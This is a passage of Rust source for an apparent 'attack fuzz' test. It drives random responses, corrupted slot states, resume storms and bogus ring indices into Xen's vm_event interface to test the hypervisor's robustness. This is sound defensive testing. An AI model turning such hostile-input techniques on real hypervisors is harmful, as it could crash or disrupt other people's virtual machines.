        let c = Channels::open(t, 2);
        let c = c.and_then(|c| fuzz_monitors(t, true).map(|()| c));
        let c = c.and_then(|c| bind(t, &c).map(|p| (c, p)));
        xenctl::unpause(t)?;
        c
    };
    let (mut c, mut local) = open(t)?;
    println!("attack fuzz: armed");
    let (mut answered, mut states, mut storms, mut rings, mut cycles) =
        (0u64, 0u64, 0u64, 0u64, 0u64);
    let deadline = time::now_ns() + 240_000_000_000;
    let mut round = 0u64;
    while round < rounds && time::now_ns() < deadline {
        let slots = c.slots(2);
        let n = c.ch.nr_vcpus;
        match rng.below(100) {
            0..=69 => {
                let Some(i) = (0..n).find(|&i| {
                    slots
                        .slot(i)
                        .expect("in range")
                        .load_state(Ordering::Acquire)
                        == VM_EVENT_SLOT_SUBMIT
                }) else {
                    core::hint::spin_loop();
                    continue;
                };
                let slot = slots.slot(i).expect("in range");
                let req = slot.read_event();
                let mut rsp = req;
                let mut raw = [0u8; 400];
                for b in raw.iter_mut() {
                    *b = rng.next() as u8;
                }
                let junk = vmevent::abi::VmEventSt::from_bytes(&raw);
                rsp.data = junk.data;
                rsp.u = junk.u;
                rsp.version = if rng.below(10) == 0 {
                    rng.next() as u32
                } else {
                    VM_EVENT_INTERFACE_VERSION
                };
                // Every flag but instruction substitution: emulating bytes
                // of the consumer's choosing runs an instruction of its
                // choosing in its target, which a stub may do to its
                // target; this test is about Xen.
                rsp.flags = (rng.next() as u32) & 0xffff & !VmEventFlags::SET_EMUL_INSN_DATA.bits();
                rsp.reason = rng.below(24) as u32;
                rsp.vcpu_id = if rng.below(4) == 0 {
                    rng.next() as u32
                } else {
                    i
                };
                rsp.altp2m_idx = rng.next() as u16;
                if rsp.flags & VmEventFlags::SET_REGISTERS.bits() != 0 {
                    *rsp.regs_x86_mut() = *req.regs_x86();
                }
                if rsp.flags & VmEventFlags::SET_EMUL_READ_DATA.bits() != 0 {
                    rsp.set_emul_read_size(rng.next() as u32);
                }
                slot.write_event(&rsp);
                let state = if rng.below(10) == 0 {
                    rng.next() as u32
                } else {
                    VM_EVENT_SLOT_FINISH
                };
                slot.store_state(state, Ordering::Release);
                if state != VM_EVENT_SLOT_FINISH {
                    states += 1;
                    // Leave the vCPU its answer after all, or it waits
                    // until the end.
                    slot.store_state(VM_EVENT_SLOT_FINISH, Ordering::Release);
                }
                // Half the answers notified, half by RESUME.
                match local.get(i as usize) {
                    Some(&p) if rng.below(2) == 0 => {
                        let _ = boot::evtchn::send(p);
                    }
                    _ => xenctl::resume(t)?,
                }
                answered += 1;
            }
            70..=84 => {
                let i = rng.below(u64::from(n)) as u32;
                let slot = slots.slot(i).expect("in range");
                // Any state but FINISH: a FINISH racing with Xen's next
                // request would hand Xen our last garbage as an answer,
                // registers and all, which a stub may do to its target but
                // is not what this test is after (Xen's robustness).
                // Never SUBMIT either: a SUBMIT of ours over an idle slot
                // makes the answering branch take the slot's last garbage
                // answer for a request and copy its registers back with
                // SET_REGISTERS, setting the victim's rip/rsp/rflags to
                // random values: a stub may do that to its target, and it
                // double-faulted the victim (seeds 0x44fa29357,
                // 0x3d9d92abd). Only Xen submits.
                if slot.load_state(Ordering::Acquire) != VM_EVENT_SLOT_SUBMIT {
                    let garbage = [0, 3, 7, 0xdead_beef][rng.below(4) as usize];
                    slot.store_state(garbage, Ordering::Release);
                    states += 1;
                }
                xenctl::resume(t)?;
            }
            85..=93 => {
                for _ in 0..20 {
                    xenctl::resume(t)?;
                }
                storms += 1;
            }
            94..=98 => {
                // SAFETY: the ring header is in our mapping.
                let ring = unsafe { AsyncRingPtr::new(c.va(), 2) };
                ring.cons().store(rng.next() as u32, Ordering::Release);
                rings += 1;
            }
            _ if cycles < max_cycles => {
                fuzz_monitors(t, false)?;
                xenctl::disable_channels(t)?;
                c.unmap();
                for p in local.drain(..) {
                    let _ = boot::evtchn::close(p);
                }
                (c, local) = open(t)?;
                cycles += 1;
            }
            _ => continue,
        }
        round += 1;
    }
    println!(
        "attack fuzz: {round} round(s): {answered} garbage answers, {states} garbage states, {storms} resume storms, {rings} hostile ring cons, {cycles} disable/enable cycles"
    );
    // Monitors off, every waiting vCPU answered, then let the victim run
    // to its end before closing, so the victim's run is the whole attack.
    fuzz_monitors(t, false)?;
    let slots = c.slots(2);
    for i in 0..c.ch.nr_vcpus {
        let slot = slots.slot(i).expect("in range");
        if slot.load_state(Ordering::Acquire) == VM_EVENT_SLOT_SUBMIT {
            let mut rsp = slot.read_event();
            rsp.version = VM_EVENT_INTERFACE_VERSION;
            rsp.flags = VmEventFlags::VCPU_PAUSED.bits();
            slot.write_event(&rsp);
            slot.store_state(VM_EVENT_SLOT_FINISH, Ordering::Release);
        }
    }
    xenctl::resume(t)?;
    let until = time::now_ns() + 180_000_000_000;
    while time::now_ns() < until
        && xenctl::getdomaininfo(t)
            .is_ok_and(|i| i.flags & (XEN_DOMINF_DYING | XEN_DOMINF_SHUTDOWN) == 0)
    {
        time::sleep_ns(200_000_000);
    }
    // Gone or shut down: Xen has closed the channels, or closes them now.
    let _ = xenctl::disable_channels(t);
    c.unmap();
    Ok(())
}
